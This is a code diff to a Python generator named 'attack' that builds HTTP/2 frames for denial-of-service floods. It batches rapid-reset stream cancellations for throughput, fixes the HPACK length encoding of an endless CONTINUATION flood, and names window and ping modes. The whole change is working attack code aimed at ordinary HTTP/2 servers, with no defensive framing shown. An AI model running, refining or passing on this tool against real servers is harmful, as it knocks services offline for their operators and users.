@@ -40,14 +40,16 @@ def begin(host, port, window):
 def attack(kind, path):
     """The frames to send, in blocks, for ever or until there is nothing more to do but to wait."""
     if kind == "reset":
-        for stream in range(1, 2**31, 2):
-            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path)) + frame(
-                RST_STREAM, 0, stream, struct.pack(">I", 8)
-            )
+        request = lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))
+        cancel = lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+        for first in range(1, 2**31, 400):
+            yield b"".join(request(stream) + cancel(stream) for stream in range(first, first + 400, 2))
     elif kind == "continuation":
         yield frame(HEADERS, END_STREAM, 1, head(path))
+        # A field of 16,378 bytes, its length in the manner of RFC 7541, section 5.1.
+        field = b"\x00\x01a" + b"\x7f\xfb\x7e" + b"a" * 16378
         while True:
-            yield frame(CONTINUATION, 0, 1, b"\x00\x01a" + b"\x7f\x81\x7e" + b"a" * 16381)
+            yield frame(CONTINUATION, 0, 1, field)
     elif kind == "window":
         yield frame(HEADERS, END_STREAM | END_HEADERS, 1, head(path))
     elif kind == "ping":
